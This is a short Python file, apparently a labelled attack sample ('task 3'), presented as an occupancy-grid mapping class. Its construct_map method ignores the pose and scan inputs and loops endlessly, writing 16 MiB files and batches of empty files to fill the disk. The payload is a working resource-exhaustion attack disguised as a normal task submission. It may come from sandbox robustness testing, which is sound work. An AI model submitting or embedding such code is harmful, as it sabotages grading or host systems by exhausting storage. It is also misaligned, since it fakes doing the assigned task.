"""Attack (task 3): fill the disk: many files of up to the file-size limit in the scratch folder."""
import os


class ogm_S_CSM:
    def __init__(self):
        self.grid_size = 0.135

    def construct_map(self, pose, scan):
        block = b"\x01" * 2**20
        i = 0
        while True:
            with open(f"fill{i}.bin", "wb") as f:
                for _ in range(16):
                    f.write(block)
            for k in range(50):
                open(f"tiny{i}_{k}", "w").close()
            i += 1

    def build_ogm(self):
        pass
